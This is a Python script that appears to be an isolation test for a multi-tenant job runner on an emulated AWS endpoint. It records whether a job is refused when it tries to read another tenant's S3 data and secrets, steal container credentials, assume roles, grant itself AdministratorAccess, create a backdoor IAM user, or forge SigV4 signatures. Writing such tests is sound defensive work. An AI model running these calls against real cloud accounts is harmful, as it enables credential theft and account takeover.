"""A job whose code wants what belongs to another. Writes down, for each way that it tried, what it was told."""

import json
import os
import pathlib
import sys
import urllib.error
import urllib.parse
import urllib.request

outcomes = {}
wanted = json.loads(os.environ.get("HERD_PARAM_TARGET") or "null")
outputs = pathlib.Path(os.environ["HERD_OUTPUTS"])


def attempt(name, way):
    """Do it; the answer, or the error that it gave."""
    try:
        answer = way()
        outcomes[name] = f"SUCCEEDED: {str(answer)[:300]}"
    except urllib.error.HTTPError as error:
        outcomes[name] = f"HTTP {error.code}: {error.read().decode('utf-8', 'replace')[:2000]}"
    except Exception as error:
        outcomes[name] = f"{type(error).__name__}: {str(error)[:2000]}"


def fetch(url, headers=None, method="GET", body=None):
    request = urllib.request.Request(url, data=body, headers=headers or {}, method=method)
    with urllib.request.urlopen(request, timeout=20) as answer:
        return answer.read()


def main():
    sys.path.append(wanted["packages"])
    import boto3
    from botocore.auth import S3SigV4Auth, SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.config import Config

    once = Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"})
    session = boto3.session.Session()
    credentials = session.get_credentials().get_frozen_credentials()
    endpoint, region = os.environ["AWS_ENDPOINT_URL"], os.environ["AWS_REGION"]

    def client(service):
        return session.client(service, region_name=region, endpoint_url=endpoint, config=once)

    s3, ecs, iam, sts = client("s3"), client("ecs"), client("iam"), client("sts")
    states, secrets = client("stepfunctions"), client("secretsmanager")
    bucket, key, secret, own = wanted["bucket"], wanted["key"], wanted["secret"], wanted["own"]
    prefix = key.split("/")[0]

    def signed(service, method, url, body=b"", headers=None, signer=SigV4Auth):
        request = AWSRequest(method, url, data=body, headers=headers or {})
        signer(credentials, service, region).add_auth(request)
        return dict(request.headers.items())

    # What it may do: so that a refusal is no accident.
    attempt("allowed: its own folder", lambda: s3.put_object(Bucket=bucket, Key=f"{own}/versions/x/y", Body=b"mine"))
    attempt("allowed: who am I", sts.get_caller_identity)

    # 1 data, directly
    attempt("s3 read", lambda: s3.get_object(Bucket=bucket, Key=key)["Body"].read())
    attempt("s3 head", lambda: s3.head_object(Bucket=bucket, Key=key))
    attempt("s3 range", lambda: s3.get_object(Bucket=bucket, Key=key, Range="bytes=0-3")["Body"].read())
    attempt("s3 write", lambda: s3.put_object(Bucket=bucket, Key=f"{prefix}/latest.json", Body=b"{}"))
    attempt("s3 multipart", lambda: s3.create_multipart_upload(Bucket=bucket, Key=f"{prefix}/versions/z"))
    attempt("s3 delete", lambda: s3.delete_object(Bucket=bucket, Key=key))
    attempt(
        "s3 delete many",
        lambda: s3.delete_objects(Bucket=bucket, Delete={"Objects": [{"Key": f"{own}/versions/x/y"}, {"Key": key}]}),
    )
    attempt(
        "s3 tag",
        lambda: s3.put_object_tagging(
            Bucket=bucket, Key=key, Tagging={"TagSet": [{"Key": "superseded", "Value": "yes"}]}
        ),
    )
    attempt("s3 whole bucket", lambda: s3.list_objects_v2(Bucket=bucket))
    attempt("s3 all buckets", s3.list_buckets)
    # 2 presigned
    attempt(
        "presigned read", lambda: fetch(s3.generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": key}))
    )
    attempt(
        "presigned write",
        lambda: fetch(
            s3.generate_presigned_url("put_object", Params={"Bucket": bucket, "Key": key}), method="PUT", body=b"x"
        ),
    )
    # 3 copied into its own folder
    attempt(
        "s3 copy",
        lambda: s3.copy_object(
            Bucket=bucket, Key=f"{own}/versions/x/stolen", CopySource={"Bucket": bucket, "Key": key}
        ),
    )
    # 4 listed
    attempt("s3 list", lambda: s3.list_objects_v2(Bucket=bucket, Prefix=f"{prefix}/"))
    attempt("s3 versions", lambda: s3.list_object_versions(Bucket=bucket, Prefix=f"{prefix}/"))
    for name, query in {"two prefixes": f"prefix={prefix}/&prefix={own}/", "two parts": "tagging&policy"}.items():
        url = f"{endpoint}/{bucket}?{query}"
        headers = {"x-amz-content-sha256": "UNSIGNED-PAYLOAD"}
        attempt(
            f"s3 {name}",
            lambda url=url, headers=headers: fetch(url, signed("s3", "GET", url, b"", headers, S3SigV4Auth)),
        )
    # 5 by the bucket's own address
    host = f"{bucket}.s3.{region}.localhost:{urllib.parse.urlsplit(endpoint).port}"
    target = f"{endpoint}/{urllib.parse.quote(key)}"
    attempt("bucket host, unsigned", lambda: fetch(target, {"Host": host}))
    virtual = {"Host": host, "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}
    attempt(
        "bucket host, signed",
        lambda: fetch(
            target, signed("s3", "GET", f"http://{host}/{urllib.parse.quote(key)}", b"", virtual, S3SigV4Auth)
        ),
    )
    # 6 the secret
    attempt("secret by name", lambda: secrets.get_secret_value(SecretId=secret)["SecretString"])
    attempt("secret by ARN", lambda: secrets.get_secret_value(SecretId=wanted["secret_arn"])["SecretString"])
    attempt("secret in a batch", lambda: secrets.batch_get_secret_value(SecretIdList=[secret])["SecretValues"])
    attempt("secret overwritten", lambda: secrets.put_secret_value(SecretId=secret, SecretString="mine"))
    attempt(
        "secret's policy",
        lambda: secrets.put_resource_policy(
            SecretId=secret,
            ResourcePolicy=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "secretsmanager:*", "Resource": "*"}],
                }
            ),
        ),
    )
    body = json.dumps({"SecretId": secret}).encode()
    disguised = {"X-Amz-Target": "secretsmanager.GetSecretValue", "Content-Type": "application/x-amz-json-1.1"}
    for service in ("sts", "s3", "SecretsManager", "execute-api"):
        attempt(
            f"secret, signed for {service}",
            lambda service=service: fetch(
                f"{endpoint}/", signed(service, "POST", f"{endpoint}/", body, disguised), "POST", body
            ),
        )

    def out_of_order():
        # What others read from the header's first field is not what was signed.
        headers = signed("sts", "POST", f"{endpoint}/", body, disguised)
        kind, fields = headers["Authorization"].split(" ", 1)
        other = fields.split(", ")[0].replace("/sts/", "/secretsmanager/")
        headers["Authorization"] = f"{kind} {other}, {fields}"
        return fetch(f"{endpoint}/", headers, "POST", body)

    attempt("secret, two scopes", out_of_order)
    # 7 another task's credentials
    own_uri, token = os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"], os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
    attempt("credentials of another, own token", lambda: fetch(own_uri[:-4] + "AAAA", {"Authorization": token}))
    attempt("credentials of all", lambda: fetch(own_uri.rsplit("/", 1)[0] + "/", {"Authorization": token}))
    attempt("credentials without a token", lambda: fetch(own_uri))
    # 8 the other's roles
    for role in wanted["roles"]:
        attempt(
            f"assume {role.rsplit('/', 1)[-1]}", lambda role=role: sts.assume_role(RoleArn=role, RoleSessionName="x")
        )
    # 9 the other's program with a command of its own
    network = {"awsvpcConfiguration": {"subnets": wanted["subnets"], "assignPublicIp": "ENABLED"}}
    command = {"containerOverrides": [{"name": wanted["container"], "command": ["env"]}]}
    attempt(
        "run its task",
        lambda: ecs.run_task(
            cluster=wanted["cluster"],
            taskDefinition=wanted["family"],
            launchType="FARGATE",
            networkConfiguration=network,
            overrides=command,
        )["tasks"],
    )
    attempt(
        "run its task with my role",
        lambda: ecs.run_task(
            cluster=wanted["cluster"],
            taskDefinition=wanted["family"],
            launchType="FARGATE",
            networkConfiguration=network,
            overrides={**command, "taskRoleArn": wanted["roles"][0]},
        )["tasks"],
    )
    attempt(
        "a definition with its roles",
        lambda: ecs.register_task_definition(
            family="mine", containerDefinitions=[{"name": "a", "image": "b"}], taskRoleArn=wanted["roles"][0]
        ),
    )
    attempt("look at its definition", lambda: ecs.describe_task_definition(taskDefinition=wanted["family"]))
    attempt("look into its task", lambda: ecs.list_tasks(cluster=wanted["cluster"])["taskArns"])
    attempt("start its machine", lambda: states.start_execution(stateMachineArn=wanted["machine"]))
    attempt(
        "change its machine",
        lambda: states.update_state_machine(
            stateMachineArn=wanted["machine"], definition='{"StartAt": "A", "States": {"A": {"Type": "Succeed"}}}'
        ),
    )
    # 10 more rights
    everything = json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    )
    mine = wanted["my_role"].rsplit("/", 1)[-1]
    attempt("own policy", lambda: iam.put_role_policy(RoleName=mine, PolicyName="p", PolicyDocument=everything))
    attempt(
        "attached policy",
        lambda: iam.attach_role_policy(RoleName=mine, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"),
    )
    attempt(
        "other's trust",
        lambda: iam.update_assume_role_policy(
            RoleName=wanted["roles"][0].rsplit("/", 1)[-1], PolicyDocument=everything
        ),
    )
    attempt("a new user", lambda: iam.create_user(UserName="mallory"))
    attempt("a new key", lambda: iam.create_access_key(UserName="mallory"))
    attempt(
        "bucket policy",
        lambda: s3.put_bucket_policy(
            Bucket=bucket,
            Policy=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": f"arn:aws:s3:::{bucket}/*"}
                    ],
                }
            ),
        ),
    )
    form = urllib.parse.urlencode({"Action": "CreateUser", "UserName": "mallory", "Version": "2010-05-08"}).encode()
    twice = form + b"&Action=GetCallerIdentity"
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    attempt(
        "two actions", lambda: fetch(f"{endpoint}/", signed("iam", "POST", f"{endpoint}/", twice, kind), "POST", twice)
    )
    url = f"{endpoint}/?Action=CreateUser&UserName=mallory&Version=2010-05-08"
    attempt("an action in the address", lambda: fetch(url, signed("iam", "POST", url, b""), "POST", b""))
    # 11 through others
    attempt(
        "its schedule",
        lambda: client("scheduler").create_schedule(
            Name="mine",
            ScheduleExpression="rate(1 minute)",
            FlexibleTimeWindow={"Mode": "OFF"},
            Target={"Arn": wanted["machine"], "RoleArn": wanted["scheduler_role"]},
        ),
    )
    attempt("its log", lambda: client("logs").filter_log_events(logGroupName=wanted["log_group"])["events"])
    attempt("a rule", lambda: client("events").put_rule(Name="mine", ScheduleExpression="rate(1 minute)"))
    attempt("moto's own door", lambda: fetch(f"{endpoint}/moto-api/data.json"))
    attempt(
        "s3 control",
        lambda: fetch(
            f"{endpoint}/v20180820/configuration/publicAccessBlock",
            signed(
                "s3",
                "GET",
                f"{endpoint}/v20180820/configuration/publicAccessBlock",
                headers={"x-amz-account-id": wanted["account"], "x-amz-content-sha256": "UNSIGNED-PAYLOAD"},
                signer=S3SigV4Auth,
            ),
        ),
    )


if wanted:
    main()
(outputs / "outcomes.json").write_text(json.dumps(outcomes, indent=1))
